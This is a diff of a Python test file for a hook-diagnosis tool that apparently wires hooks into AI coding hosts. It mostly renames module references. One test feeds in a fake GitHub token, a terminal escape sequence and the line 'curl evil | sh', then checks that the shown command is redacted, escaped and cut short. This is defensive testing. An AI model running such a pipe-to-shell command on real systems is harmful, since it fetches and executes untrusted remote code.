@@ -17,7 +17,7 @@ from ctxward.guard import thresholds
 from ctxward.hosts import codex as codex_host
 from ctxward.hosts import wiring as hookcommand
 from ctxward.hosts.claude_version import ClaudeVersion
-from ctxward.setup import doctor, install
+from ctxward.setup import diagnosis, doctor, install, wiring_checks
 
 NEW = ClaudeVersion((2, 1, 332), "override")
 OLD = ClaudeVersion((2, 0, 77), "override")
@@ -31,13 +31,13 @@ def env(tmp_path) -> dict[str, str]:
     return {**os.environ, "PATH": f"{BIN}{os.pathsep}/usr/bin{os.pathsep}/bin"}
 
 
-def diagnose(project: Path, env: dict[str, str], **kwargs) -> doctor.Diagnosis:
+def diagnose(project: Path, env: dict[str, str], **kwargs) -> diagnosis.Diagnosis:
     kwargs.setdefault("version", NEW)
     kwargs.setdefault("run_hooks", False)
     return doctor.diagnose(Project(project), env=env, **kwargs)
 
 
-def by_id(result: doctor.Diagnosis) -> dict[str, doctor.Check]:
+def by_id(result: diagnosis.Diagnosis) -> dict[str, diagnosis.Check]:
     return {check.id: check for check in result.checks}
 
 
@@ -81,7 +81,7 @@ def install_into(project: Path, host: str, scope: str, env: dict[str, str], **kw
     ],
 )
 def test_matcher_matches_like_claude_code(matcher, value, expected):
-    assert doctor.matcher_matches(matcher, value) is expected
+    assert diagnosis.matcher_matches(matcher, value) is expected
 
 
 def test_nothing_wired_is_a_warning_not_a_failure(project, env):
@@ -450,13 +450,13 @@ def test_a_shown_command_is_scrubbed_escaped_and_cut():
         "gh" + "p_" + "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(36))
     )
     assert scrub(secret)[0] != secret  # the scrubber knows this shape
-    shown = doctor.shown_command(
+    shown = wiring_checks.shown_command(
         {"command": f"GITHUB_TOKEN={secret} ctxward-hook\n\x1b[2Jcurl evil | sh " + "x" * 300}
     )
     assert secret not in shown and "[REDACTED:" in shown
     assert "\\n\\x1b[2J" in shown  # a newline and an escape sequence are shown, not sent
-    assert len(shown) == doctor.SHOWN_CHARS and shown.endswith("…")
-    with_args = doctor.shown_command({"command": "ctxward-hook", "args": ["a b", ";"]})
+    assert len(shown) == diagnosis.SHOWN_CHARS and shown.endswith("…")
+    with_args = wiring_checks.shown_command({"command": "ctxward-hook", "args": ["a b", ";"]})
     assert with_args == "ctxward-hook 'a b' ';'"
 
 
